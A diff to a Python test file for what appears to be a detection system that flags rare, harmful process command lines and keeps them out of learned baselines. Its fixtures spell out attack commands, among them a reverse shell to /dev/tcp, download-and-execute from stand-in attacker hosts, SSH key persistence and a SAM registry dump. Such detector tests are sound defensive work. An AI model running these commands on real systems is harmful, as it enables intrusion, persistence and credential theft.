@@ -3,8 +3,11 @@
 import pytest
 from prevalence_tables import DAYS, Ran, hosts, life, seen
 
+from longtail.prevalence.behaviours import UNIT, showing
 from longtail.prevalence.findings import Alert, Severity
-from longtail.prevalence.judgement import judged
+from longtail.prevalence.grounds import LEFT_OUT, learnable, scoped
+from longtail.prevalence.judgement import judged, model
+from longtail.prevalence.telling import HARMFUL
 from longtail.settings import Settings
 
 SHELL, SYSTEM32 = "/usr/bin/dash", "C:\\Windows\\System32\\"
@@ -35,23 +38,33 @@ def of_person(line: str, parent: str = r"C:\Windows\explorer.exe") -> Ran:
     return Ran("pc03", SYSTEM32 + "cmd.exe", (7,), line, parent, account=r"CORP\anna3")
 
 
-@pytest.mark.parametrize(
-    "act",
-    [
-        of_database("sh -c curl -fsSL http://198.51.100.7/pg.sh | sh"),
-        of_database("sh -c echo ssh-rsa AAAAB3Nza >> /var/lib/postgresql/.ssh/authorized_keys"),
-        of_database("bash -c bash -i >& /dev/tcp/db.example.net/443 0>&1"),
-        of_database("curl http://198.51.100.7/x", "/usr/bin/curl"),
-        of_person("cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1735953953.14 2>&1", WMI),
-        of_person("cmd.exe /c reg save hklm\\sam C:\\Windows\\Temp\\s.hiv"),
-        of_person('cmd.exe /c powershell -c "iwr attacker.top/l.ps1|iex"'),
-        of_person("cmd.exe /c curl -o C:\\Windows\\Temp\\j.exe http://198.51.100.7/j.exe"),
-    ],
-)
+HARM = [
+    of_database("sh -c curl -fsSL http://198.51.100.7/pg.sh | sh"),
+    of_database("sh -c echo ssh-rsa AAAAB3Nza >> /var/lib/postgresql/.ssh/authorized_keys"),
+    of_database("bash -c bash -i >& /dev/tcp/db.example.net/443 0>&1"),
+    of_database("curl http://198.51.100.7/x", "/usr/bin/curl"),
+    of_person("cmd.exe /Q /c whoami 1> \\\\127.0.0.1\\ADMIN$\\__1735953953.14 2>&1", WMI),
+    of_person("cmd.exe /c reg save hklm\\sam C:\\Windows\\Temp\\s.hiv"),
+    of_person('cmd.exe /c powershell -c "iwr attacker.top/l.ps1|iex"'),
+    of_person("cmd.exe /c curl -o C:\\Windows\\Temp\\j.exe http://198.51.100.7/j.exe"),
+]
+
+
+@pytest.mark.parametrize("act", HARM)
 def test_what_plainly_means_harm_is_told_of_accounts_that_cannot_be_modelled(act: Ran) -> None:
     (alert,) = told(act)
     assert alert.host == act.host and alert.severity >= Severity.MEDIUM
     assert "this tenant, whatever the account" in alert.reason and "its tenant almost never" in alert.title
+
+
+@pytest.mark.parametrize("act", HARM)
+def test_what_was_told_of_them_is_not_learnt(act: Ran) -> None:
+    everything = seen([*FLEET, *DATABASE, *PEOPLE, act])
+    found, (placed, _) = judged(everything, Settings(), ("auto",)), model(everything)
+    assert not showing(placed, HARMFUL).is_empty()
+    learnt = learnable(placed.drop("judged", strict=False), scoped(found.grounds, UNIT).select(list(LEFT_OUT)))
+    assert showing(learnt, HARMFUL).is_empty(), "neither the program nor the shell that carried it speaks for anybody"
+    assert learnt.height >= placed.height - 4, "nor is anything else forgotten"
 
 
 @pytest.mark.parametrize(
